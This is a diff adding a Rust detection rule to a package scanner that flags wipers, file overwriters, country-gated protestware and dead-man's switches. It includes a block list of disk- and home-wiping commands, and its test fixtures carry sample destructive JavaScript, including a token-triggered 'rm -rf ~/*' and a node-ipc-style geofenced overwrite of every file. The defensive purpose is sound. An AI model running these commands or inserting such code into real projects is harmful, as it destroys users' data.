@@ -1,0 +1,496 @@
+//! `destructive`: wipers and protestware — recursive deletion of home, root or the working
+//! directory, overwriting every file found, geolocation-gated behaviour, and dead-man's
+//! switches that destroy data when a stolen token stops working.
+
+use palisade_core::{Capability, Confidence, Finding, Severity};
+
+use super::signals::{self, call_text, contains_any, finding, first_match};
+use super::{FileRule, RuleInfo};
+use crate::facts::{Call, FileFacts, Value};
+
+pub struct Destructive;
+
+static INFO: RuleInfo = RuleInfo {
+    id: "destructive",
+    severity: Severity::Critical,
+    confidence: Confidence::High,
+    capabilities: &[Capability::Destructive, Capability::Filesystem],
+    summary: "Deletes or overwrites the user's files (home, root, working directory), or gates behaviour on the victim's country",
+    docs: r#"## What it detects
+
+- **Wipers**: recursive deletion of the home directory, the filesystem root or the working
+  directory — `fs.rmSync(os.homedir(), { recursive: true })`, `rimraf('/')`, `rm -rf ~`,
+  `rm -rf $HOME/*`, `rd /s /q %USERPROFILE%`, `Remove-Item -Recurse ~`, `del /s /q C:\` — and
+  disk-level destruction (`mkfs`, `dd of=/dev/sda`, `shred`, `format c:`).
+- **Overwriters**: a directory walk (`readdirSync` + `stat`) that writes a constant into every
+  file it finds, starting from `/`, `~` or `..` (node-ipc 10.1.1 wrote ❤️ into every file).
+- **Geofencing**: an IP-geolocation API (ipgeolocation.io, ip-api.com, ipinfo.io, ipapi.co,
+  geojs, …) whose answer is compared with country names or codes. With destructive code in
+  the same file it is critical; alone it is high (protestware and region-targeted payloads).
+- **Dead-man's switches**: destructive code next to a token check (`/user`, `whoami`, 401/403,
+  `valid`), reported with that context.
+
+## Real attacks
+
+- node-ipc 10.1.1/10.1.2 (March 2022, CVE-2022-23812): looked up the machine's country through
+  ipgeolocation.io and, for Russia and Belarus, overwrote every file under `/`, `../` and `./`
+  with a heart emoji.
+- rimrafall (2016) and many "test" packages: `rm -rf /*` in an install script.
+- @rspack/core 1.1.7 skipped victims in listed countries (ipinfo.io) before mining.
+- Shai-Hulud 2 (November 2025): when it could not steal a usable token it tried to wipe the
+  user's home directory.
+
+## Known false positives
+
+rimraf, del and fs-extra delete paths they are given (never the home or root by themselves).
+Analytics SDKs that look up the visitor's country are geolocation without gating and stay quiet
+unless they compare the answer with specific countries.
+"#,
+};
+
+const GEO_APIS: &[&str] = &[
+    "ipgeolocation.io",
+    "ip-api.com",
+    "ipinfo.io",
+    "ipapi.co",
+    "ipapi.com",
+    "ipwho.is",
+    "ipwhois.app",
+    "freegeoip",
+    "geoip-db.com",
+    "geolocation-db.com",
+    "get.geojs.io",
+    "api.country.is",
+    "extreme-ip-lookup.com",
+    "ip2location.io",
+    "ipdata.co",
+    "geoplugin.net",
+    "ipregistry.co",
+    "db-ip.com",
+];
+
+const COUNTRIES: &[&str] = &[
+    "russia",
+    "belarus",
+    "ukraine",
+    "china",
+    "iran",
+    "israel",
+    "palestine",
+    "kazakhstan",
+    "north korea",
+    "hong kong",
+    "country_name",
+    "countrycode",
+    "country_code",
+];
+
+const WIPE_COMMANDS: &[&str] = &[
+    "rm -rf ~",
+    "rm -rf /",
+    "rm -rf $home",
+    "rm -rf \"$home",
+    "rm -rf ${home}",
+    "rm -rf *",
+    "rm -rf .",
+    "rm -fr ~",
+    "rm -fr /",
+    "rm -rf --no-preserve-root",
+    "rd /s /q c:\\",
+    "rd /s /q %userprofile%",
+    "rmdir /s /q c:\\",
+    "rmdir /s /q %userprofile%",
+    "del /f /s /q c:\\",
+    "del /s /q c:\\",
+    "del /f /s /q %userprofile%",
+    "remove-item -recurse -force ~",
+    "remove-item -recurse -force $home",
+    "remove-item -recurse -force c:\\",
+    "remove-item -path $env:userprofile -recurse",
+    "mkfs",
+    "of=/dev/sd",
+    "of=/dev/nvme",
+    "shred -",
+    "format c:",
+    "sudo shutdown",
+];
+
+/// A wiping command in `text` (lower-case). `rm -rf ./dist` or `rm -rf ~/.cache/tool` is
+/// housekeeping; only the bare `~`, `/`, `.` forms (optionally `/*`) sweep.
+fn wipe_command(text: &str) -> Option<&'static str> {
+    WIPE_COMMANDS.iter().copied().find(|command| {
+        text.match_indices(command).any(|(at, _)| {
+            let after = &text[at + command.len()..];
+            let deletes = ["rm ", "rd ", "rmdir ", "del ", "remove-item"]
+                .iter()
+                .any(|p| command.starts_with(p));
+            !deletes
+                || after.is_empty()
+                || after.starts_with([' ', '*', '\'', '"', '`', ';', '&', '|', ')'])
+                || after.starts_with("/*")
+                || after.starts_with("/ ")
+        })
+    })
+}
+
+/// Lifecycle scripts in a package.json that wipe (`"preinstall": "rm -rf /*"`).
+fn check_manifest(file: &FileFacts, text: &str, out: &mut Vec<Finding>) {
+    let Ok(manifest) = serde_json::from_str::<serde_json::Value>(text) else {
+        return;
+    };
+    let Some(scripts) = manifest.get("scripts").and_then(|s| s.as_object()) else {
+        return;
+    };
+    for key in [
+        "preinstall",
+        "install",
+        "postinstall",
+        "prepare",
+        "preuninstall",
+        "uninstall",
+        "postuninstall",
+    ] {
+        let Some(script) = scripts.get(key).and_then(|s| s.as_str()) else {
+            continue;
+        };
+        if let Some(command) = wipe_command(&script.to_lowercase()) {
+            let line = text
+                .lines()
+                .position(|l| l.contains(&format!("\"{key}\"")))
+                .map_or(1, |i| i as u32 + 1);
+            out.push(finding(
+                &INFO,
+                file,
+                line,
+                Severity::Critical,
+                Confidence::High,
+                format!(
+                    "The `{key}` script runs `{}`: it wipes the machine of whoever installs the package.",
+                    command.trim()
+                ),
+                script,
+            ));
+            return;
+        }
+    }
+}
+
+/// A deletion target that is the whole home, the root, a drive or the working directory.
+fn sweeping_target(target: &str) -> Option<&'static str> {
+    let target = target.trim().trim_matches(['\'', '"', '`']).trim();
+    if target.is_empty() {
+        return None;
+    }
+    let target = target.trim_end_matches(['/', '\\', '*']).trim();
+    match target {
+        "~"
+        | "$home"
+        | "%userprofile%"
+        | "os.homedir()"
+        | "os.homedir"
+        | "process.env.home"
+        | "process.env.userprofile" => Some("the home directory"),
+        "" | "c:" | "/root" | "/home" | "/users" => Some("the filesystem root"),
+        "." | "./" | "process.cwd()" | "process.cwd" => Some("the working directory"),
+        _ => None,
+    }
+}
+
+fn is_recursive(call: &Call) -> bool {
+    signals::method(&call.callee).starts_with("rimraf")
+        || call.callee.starts_with("rimraf")
+        || call.callee.starts_with("del")
+        || call.callee.starts_with("fs-extra")
+        || matches!(
+            signals::method(&call.callee),
+            "remove" | "removeSync" | "emptyDir" | "emptyDirSync"
+        )
+        || call.args.iter().any(|arg| match arg {
+            Value::Object { entries } => entries
+                .iter()
+                .any(|(key, value)| key == "recursive" && matches!(value, Value::Bool { value: true })),
+            _ => false,
+        })
+        || call.excerpt.contains("recursive")
+}
+
+/// The text of the first argument (folded value, or its source when the extractor could not fold it).
+fn first_argument(call: &Call) -> String {
+    match call.args.first() {
+        Some(Value::Str { value, .. }) => value.to_ascii_lowercase(),
+        Some(Value::Member { path }) => path.to_ascii_lowercase(),
+        Some(Value::CallResult { callee }) => format!("{}()", callee.to_ascii_lowercase()),
+        _ => signals::first_arg_source(&call.excerpt).to_ascii_lowercase(),
+    }
+}
+
+impl FileRule for Destructive {
+    fn info(&self) -> &'static RuleInfo {
+        &INFO
+    }
+
+    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
+        let Some(text) = file.text.as_deref() else { return };
+        if file.path == "package.json" {
+            check_manifest(file, text, out);
+            return;
+        }
+        let lower = text.to_lowercase();
+        let strings = signals::strings_with_decoded(file);
+        let geo_api = strings
+            .iter()
+            .find_map(|(line, s)| first_match(s, GEO_APIS).map(|api| (*line, api)))
+            .or_else(|| {
+                file.calls
+                    .iter()
+                    .find_map(|c| first_match(&call_text(c), GEO_APIS).map(|api| (c.line, api)))
+            });
+        let country = first_match(
+            &strings.iter().map(|(_, s)| s.as_str()).collect::<Vec<_>>().join("\n"),
+            COUNTRIES,
+        )
+        .or_else(|| first_match(&lower, &["country_name", "countrycode", "country_code", ".country"]));
+        let geofenced = geo_api.is_some() && country.is_some();
+        let token_gate = contains_any(
+            &lower,
+            &[
+                "whoami",
+                "api.github.com/user",
+                "status === 401",
+                "status == 401",
+                "statuscode === 401",
+                "status === 403",
+                "tokenvalid",
+                "token_valid",
+                "isvalidtoken",
+                "revoked",
+            ],
+        );
+
+        let mut destroys: Option<(u32, String, String)> = None;
+        for call in &file.calls {
+            if signals::is_delete_call(call) && is_recursive(call) {
+                if let Some(what) = sweeping_target(&first_argument(call)) {
+                    destroys = Some((call.line, format!("recursively deletes {what}"), call.excerpt.clone()));
+                    break;
+                }
+            }
+            if signals::is_exec_call(call) {
+                if let Some(command) = wipe_command(&call_text(call)) {
+                    destroys = Some((call.line, format!("runs `{}`", command.trim()), call.excerpt.clone()));
+                    break;
+                }
+            }
+        }
+        if destroys.is_none() {
+            destroys = overwrite_walk(file, &lower, &strings);
+        }
+
+        match (destroys, geofenced) {
+            (Some((line, what, excerpt)), _) => {
+                let context = if geofenced {
+                    " after checking the machine's country through an IP geolocation API (node-ipc protestware)"
+                } else if token_gate {
+                    " next to a credential check: a dead-man's switch that destroys data when a token stops working"
+                } else {
+                    ""
+                };
+                out.push(finding(
+                    &INFO,
+                    file,
+                    line,
+                    Severity::Critical,
+                    Confidence::High,
+                    format!("Code {what}{context}."),
+                    &excerpt,
+                ));
+            }
+            (None, true) => {
+                let (line, api) = geo_api.unwrap_or((1, ""));
+                out.push(finding(
+                    &INFO,
+                    file,
+                    line,
+                    Severity::High,
+                    Confidence::Medium,
+                    format!(
+                        "Looks up the machine's location ({api}) and compares it with `{}`: behaviour gated on the victim's country, as in protestware and region-targeted payloads.",
+                        country.unwrap_or("a country")
+                    ),
+                    "",
+                ));
+            }
+            (None, false) => {
+                if let Some(finding) = desktop_drop(file, &strings) {
+                    out.push(finding);
+                }
+            }
+        }
+    }
+}
+
+/// Files written into the user's Desktop or OneDrive folders, which no library needs to touch
+/// (peacenotwar dropped WITH-LOVE-FROM-AMERICA.txt there on import).
+fn desktop_drop(file: &FileFacts, strings: &[(u32, String)]) -> Option<Finding> {
+    let folder = strings.iter().find(|(_, s)| {
+        contains_any(s, &["/desktop/", "\\desktop\\", "/onedrive/", "\\onedrive\\"])
+            || s == "desktop"
+            || s == "onedrive"
+    })?;
+    let home = file
+        .text
+        .as_deref()
+        .is_some_and(|t| contains_any(t, &["homedir", "USERPROFILE", "HOME", "~/"]));
+    let write = file.calls.iter().find(|c| {
+        signals::is_write_call(c)
+            && matches!(
+                signals::method(&c.callee),
+                "writeFile" | "writeFileSync" | "copyFile" | "copyFileSync" | "createWriteStream"
+            )
+    })?;
+    if !home {
+        return None;
+    }
+    Some(finding(
+        &INFO,
+        file,
+        write.line,
+        Severity::High,
+        Confidence::Medium,
+        format!(
+            "Writes files into the user's {} folder: protestware and scareware drop messages there.",
+            folder.1.trim_matches(['/', '\\'])
+        ),
+        &write.excerpt,
+    ))
+}
+
+/// A directory walk that writes a constant into the files it finds, from a sweeping start.
+fn overwrite_walk(file: &FileFacts, lower: &str, strings: &[(u32, String)]) -> Option<(u32, String, String)> {
+    let walks = file
+        .calls
+        .iter()
+        .any(|c| matches!(signals::method(&c.callee), "readdirSync" | "readdir"));
+    if !walks {
+        return None;
+    }
+    let stats = file
+        .calls
+        .iter()
+        .any(|c| matches!(signals::method(&c.callee), "lstatSync" | "statSync" | "lstat" | "stat"))
+        || lower.contains("isdirectory");
+    let sweeping_start = strings
+        .iter()
+        .any(|(_, s)| matches!(s.as_str(), "/" | "./" | "../" | "../../" | "~" | "c:\\"));
+    if !(stats && sweeping_start) {
+        return None;
+    }
+    let write = file.calls.iter().find(|c| {
+        signals::is_write_call(c)
+            && matches!(signals::method(&c.callee), "writeFile" | "writeFileSync")
+            && !matches!(c.args.first(), Some(Value::Str { .. }))
+            && match c.args.get(1) {
+                Some(Value::Str { .. }) => true,
+                // A decoder applied to constants (`b('4p2k77iP')`, `heart.toString('utf8')`).
+                Some(Value::CallResult { callee }) => {
+                    callee.ends_with("toString")
+                        || file.calls.iter().any(|d| {
+                            d.line == c.line
+                                && &d.callee == callee
+                                && !d.args.is_empty()
+                                && d.args.iter().all(|a| matches!(a, Value::Str { .. }))
+                        })
+                }
+                _ => false,
+            }
+    })?;
+    Some((
+        write.line,
+        "overwrites every file it finds with fixed content, walking from the filesystem root".to_string(),
+        write.excerpt.clone(),
+    ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts;
+
+    fn run(source: &str) -> Vec<Finding> {
+        let file = facts::extract("index.js", source.as_bytes(), 0o644);
+        let mut out = Vec::new();
+        Destructive.check(&file, &mut out);
+        out
+    }
+
+    fn worst(findings: &[Finding]) -> Option<Severity> {
+        findings.iter().map(|f| f.severity).max()
+    }
+
+    #[test]
+    fn flags_home_wipe() {
+        let source = "const fs = require('fs'); const os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });\n";
+        let findings = run(source);
+        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
+        assert_eq!(findings[0].line, Some(2));
+    }
+
+    #[test]
+    fn flags_rm_rf_dead_mans_switch() {
+        let source = r#"
+const { execSync } = require('child_process');
+async function check(token) {
+  const res = await fetch('https://api.github.com/user', { headers: { authorization: `token ${token}` } });
+  if (res.status === 401) execSync('rm -rf ~/* ~/.[!.]*', { stdio: 'ignore' });
+}
+"#;
+        let findings = run(source);
+        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
+        assert!(findings[0].message.contains("dead-man"), "{}", findings[0].message);
+    }
+
+    #[test]
+    fn flags_geofenced_overwrite() {
+        let source = r#"
+import fs from 'fs'; import path from 'path'; import https from 'https';
+https.get('https://api.ipgeolocation.io/ipgeo?apiKey=x', (res) => res.on('data', (d) => {
+  const country = JSON.parse(d.toString()).country_name.toLowerCase();
+  if (country.includes('russia') || country.includes('belarus')) { walk('./'); walk('../'); walk('/'); }
+}));
+function walk(dir) {
+  for (const name of fs.readdirSync(dir)) {
+    const p = path.join(dir, name);
+    if (fs.lstatSync(p).isDirectory()) walk(p); else fs.writeFile(p, '\u2764\ufe0f', () => {});
+  }
+}
+"#;
+        assert_eq!(worst(&run(source)), Some(Severity::Critical));
+    }
+
+    #[test]
+    fn geofence_alone_is_high() {
+        let source = r#"
+const r = await fetch('https://ipapi.co/json/'); const j = await r.json();
+if (j.country_code === 'RU' || j.country_name === 'Belarus') { console.log('Нет войне'); }
+"#;
+        assert_eq!(worst(&run(source)), Some(Severity::High));
+    }
+
+    #[test]
+    fn quiet_on_build_cleanup() {
+        let source = r#"
+const fs = require('fs'); const path = require('path'); const { execSync } = require('child_process');
+fs.rmSync(path.join(__dirname, 'dist'), { recursive: true, force: true });
+execSync('rm -rf ./build/tmp');
+module.exports = function rimraf(p) { return fs.rmSync(p, { recursive: true }); };
+"#;
+        assert!(run(source).is_empty(), "{:#?}", run(source));
+    }
+
+    #[test]
+    fn quiet_on_geolocation_without_gating() {
+        let source =
+            "fetch('https://ipinfo.io/json').then((r) => r.json()).then((info) => analytics.track('visit', info));";
+        assert!(run(source).is_empty());
+    }
+}
